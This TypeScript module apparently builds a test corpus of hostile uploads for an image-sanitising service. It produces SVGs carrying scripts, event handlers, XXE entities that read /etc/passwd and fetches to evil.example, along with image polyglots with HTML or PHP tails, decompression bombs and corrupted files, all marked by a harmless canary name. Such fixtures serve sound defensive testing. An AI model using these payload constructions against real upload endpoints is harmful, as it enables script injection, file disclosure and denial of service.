import { createHash } from 'node:crypto'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'

/** A word that stands in everything that must not come through. */
export const CANARY = 'vezneKanarya'
const SCRIPT = `<script>${CANARY}()</script>`

export interface HostileFile {
  readonly name: string
  readonly bytes: Buffer
}

const of = (name: string, content: Buffer | string): HostileFile => ({
  name,
  bytes: typeof content === 'string' ? Buffer.from(content) : content,
})

/** Bytes that look like chance and are the same in every run. */
export function scatter(seed: string, length: number): Buffer {
  const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, no) =>
    createHash('sha256').update(`${seed}/${no}`).digest(),
  )
  return Buffer.concat(blocks).subarray(0, length)
}

const PNG_MAGIC = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** A picture of one bit per dot that says to be so large; `rows` of it are there. */
export function pngBomb(width: number, height: number, rows: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1
  const dots = Buffer.alloc((Math.ceil(width / 8) + 1) * rows)
  const parts = [chunk('IHDR', header), chunk('IDAT', deflateSync(dots, { level: 9 })), chunk('IEND', Buffer.alloc(0))]
  return Buffer.concat([PNG_MAGIC, ...parts])
}

/** Puts a chunk right behind the header, where every reader comes past it. */
function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const headEnd = 8 + 25
  return Buffer.concat([png.subarray(0, headEnd), chunk(type, data), png.subarray(headEnd)])
}

export interface Samples {
  readonly png: Buffer
  readonly jpeg: Buffer
  readonly webp: Buffer
}

/** Pictures as people have them, of dots that look like chance. */
export async function samples(width = 90, height = 60): Promise<Samples> {
  const raw = sharp(scatter('dots', width * height * 3), { raw: { width, height, channels: 3 } })
  const [png, jpeg, webp] = await Promise.all([
    raw.clone().png().toBuffer(),
    raw.clone().jpeg().toBuffer(),
    raw.clone().webp().toBuffer(),
  ])
  return { png, jpeg, webp }
}

function drawings(): HostileFile[] {
  const open = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"'
  const plain = `${open}>${SCRIPT}</svg>`
  const bodies = [
    plain,
    `${open} onload="${CANARY}()"/>`,
    `${open}><a href="javascript:${CANARY}()"><rect width="9" height="9"/></a></svg>`,
    `${open}><foreignObject><iframe srcdoc="${CANARY}"/></foreignObject></svg>`,
    `${open}><image href="file:///etc/passwd"/><desc>${CANARY}</desc></svg>`,
    `${open}><use href="https://evil.example/#${CANARY}"/></svg>`,
    `${open}><style>@import url(https://evil.example/${CANARY})</style></svg>`,
    `${open}><animate onbegin="${CANARY}()"/></svg>`,
    `${open}><set attributeName="href" to="javascript:${CANARY}()"/></svg>`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${open}><text>&x;${CANARY}</text></svg>`,
    `<!DOCTYPE svg [<!ENTITY a "${CANARY}"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${open}>&c;</svg>`,
    `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>${CANARY}()</svg:script></svg:svg>`,
    plain.toUpperCase() + CANARY,
  ]
  const prefixes = ['', '<?xml version="1.0" encoding="UTF-8"?>\n', '<!-- resim -->\n', '\uFEFF \n\t']
  const written = bodies.flatMap((body, no) =>
    prefixes.map((prefix, at) => of(`svg ${no} behind ${at}`, prefix + body)),
  )
  const wide = Buffer.from(`\uFEFF${plain}`, 'utf16le')
  return [
    ...written,
    of('svg in UTF-16', wide),
    of('svg in UTF-16, turned', Buffer.from(wide).swap16()),
    of('svgz', gzipSync(plain)),
  ]
}

function polyglots({ png, jpeg, webp }: Samples): HostileFile[] {
  const script = Buffer.from(SCRIPT)
  const zip = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), scatter('zip', 60), script])
  const tails: [string, Buffer][] = [
    ['a script', script],
    ['a page', Buffer.from(`<html><body onload=${CANARY}()>`)],
    ['a zip', zip],
    ['PHP', Buffer.from(`<?php system('${CANARY}'); ?>`)],
    ['a PDF', Buffer.from(`%PDF-1.7\n${CANARY}`)],
  ]
  const behind = tails.flatMap(([what, tail]) =>
    Object.entries({ png, jpeg, webp }).map(([kind, picture]) =>
      of(`${kind} and ${what}`, Buffer.concat([picture, tail])),
    ),
  )
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, script.length + 2]), script])
  return [
    ...behind,
    of('GIF and JavaScript', `GIF89a/*${'x'.repeat(40)}*/=1;${CANARY}()`),
    of('BMP and JavaScript', `BM/*${'x'.repeat(60)}*/=1;${CANARY}()`),
    of('JPEG and a page', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(`<html>${SCRIPT}`)])),
    of('WebP and JavaScript', `RIFF/**/WEBP=1;${CANARY}()`),
    of('PNG with a text', withChunk(png, 'tEXt', Buffer.from(`Comment\0${SCRIPT}`))),
    of('PNG with XMP', withChunk(png, 'iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0<x>${CANARY}</x>`))),
    of('PNG with Exif', withChunk(png, 'eXIf', Buffer.from(`II*\0${CANARY}`))),
    of('PNG with a private chunk', withChunk(png, 'vzNe', script)),
    of('JPEG with a comment', Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)])),
  ]
}

/** They say to be larger than anything; some of them are. */
function bombs(): HostileFile[] {
  const sizes = [
    [100_000, 100_000],
    [65_535, 65_535],
    [2_147_483_647, 1],
    [1, 2_147_483_647],
    [2_147_483_647, 2_147_483_647],
    [40_001, 1000],
    [1000, 40_001],
    [16_384, 16_384],
    [0, 10],
    [10, 0],
  ] as const
  const claims = sizes.map(([width, height]) => of(`PNG that says ${width}×${height}`, pngBomb(width, height, 1)))
  const whole = [
    of('PNG of 400 megapixels', pngBomb(20_000, 20_000, 20_000)),
    of('PNG of 6400×6400', pngBomb(6400, 6400, 6400)),
  ]
  const webps = [16_383, 12_000, 8000].map((side) => of(`WebP that says ${side}×${side}`, webpClaim(side)))
  const jpegs = [65_500, 30_000, 7000].map((side) => of(`JPEG that says ${side}×${side}`, jpegClaim(side)))
  return [...claims, ...whole, ...webps, ...jpegs]
}

function webpClaim(side: number): Buffer {
  const head = Buffer.alloc(30)
  head.write('RIFF', 0, 'latin1')
  head.writeUInt32LE(22, 4)
  head.write('WEBPVP8X', 8, 'latin1')
  head.writeUInt32LE(10, 16)
  head.writeUIntLE(side - 1, 24, 3)
  head.writeUIntLE(side - 1, 27, 3)
  return head
}

function jpegClaim(side: number): Buffer {
  const frame = Buffer.from([0xff, 0xd8, 0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0])
  frame.writeUInt16BE(side, 7)
  frame.writeUInt16BE(side, 9)
  return Buffer.concat([frame, scatter('jpeg', 200)])
}

/** Cut off at every twelfth, and with bytes turned over in the middle. */
function broken(pictures: Samples): HostileFile[] {
  return Object.entries(pictures).flatMap(([kind, picture]: [string, Buffer]) => {
    const cut = Array.from({ length: 12 }, (_, part) =>
      of(`${kind}, ${part} twelfths of it`, picture.subarray(0, Math.max(12, (picture.length * part) / 12))),
    )
    const turned = Array.from({ length: 16 }, (_, no) => {
      const bytes = Buffer.from(picture)
      for (const [at, value] of scatter(`${kind}${no}`, 12).entries()) {
        bytes[16 + ((at * 977 + no * 131) % (bytes.length - 16))] = value
      }
      return of(`${kind}, turned over ${no}`, bytes)
    })
    return [...cut, ...turned]
  })
}

/** Other kinds of file, whatever they are called. */
function strangers(): HostileFile[] {
  const heads = {
    zip: 'PK\u0003\u0004',
    gzip: '\u001f\u008b\b',
    pdf: '%PDF-1.7\n',
    elf: '\u007fELF\u0002\u0001',
    exe: 'MZ\u0090',
    bmp: 'BM',
    ico: '\0\0\u0001\0',
    tiff: 'II*\0',
    'tiff, turned': 'MM\0*',
    heic: '\0\0\0\u0018ftypheic',
    avif: '\0\0\0\u001cftypavif',
    mp4: '\0\0\0\u0018ftypisom',
    psd: '8BPS',
    gif: 'GIF89a',
    jp2: '\0\0\0\fjP  ',
    jxl: '\u00ff\n',
    eps: '%!PS-Adobe-3.0 EPSF-3.0\n',
    html: `<!doctype html>${SCRIPT}`,
    js: `${CANARY}();`,
    json: '{"a":1}',
    webm: '\u001aE\u00df\u00a3',
    ole: '\u00d0\u00cf\u0011\u00e0',
    nothing: ' ',
    'PNG by its head': PNG_MAGIC.toString('latin1'),
    'JPEG by its head': '\u00ff\u00d8\u00ff\u00e0',
    'WebP by its head': 'RIFF\u0010\0\0\0WEBPVP8 ',
  }
  const headed = Object.entries(heads).map(([name, head]) =>
    of(name, Buffer.concat([Buffer.from(head, 'latin1'), scatter(name, 300), Buffer.from(SCRIPT)])),
  )
  return [...headed, of('one byte', 'x'), of('chance', scatter('chance', 5000))]
}

/** Good pictures with something on them, or more than one in a file. */
async function laden({ png }: Samples): Promise<HostileFile[]> {
  const exif = { IFD0: { ImageDescription: SCRIPT, Artist: CANARY, Copyright: SCRIPT } }
  const frames = await Promise.all(
    ['red', 'green', 'blue'].map((background) =>
      sharp({ create: { width: 30, height: 30, channels: 3, background } })
        .png()
        .toBuffer(),
    ),
  )
  const film = sharp(frames, { join: { animated: true } })
  return [
    of('JPEG with Exif', await sharp(png).withExif(exif).jpeg().toBuffer()),
    of('WebP with Exif', await sharp(png).withExif(exif).webp().toBuffer()),
    of('PNG with Exif of a camera', await sharp(png).withExif(exif).png().toBuffer()),
    of(
      'JPEG with XMP',
      await sharp(png).withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${SCRIPT}</x:xmpmeta>`).jpeg().toBuffer(),
    ),
    of('WebP that moves', await film.clone().webp().toBuffer()),
    of('GIF that moves', await film.clone().gif().toBuffer()),
    of('APNG', withChunk(png, 'acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))),
  ]
}

/** Two hundred files and more, none of which may be kept as it was sent. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const good = await samples()
  return [...drawings(), ...polyglots(good), ...bombs(), ...broken(good), ...strangers(), ...(await laden(good))]
}
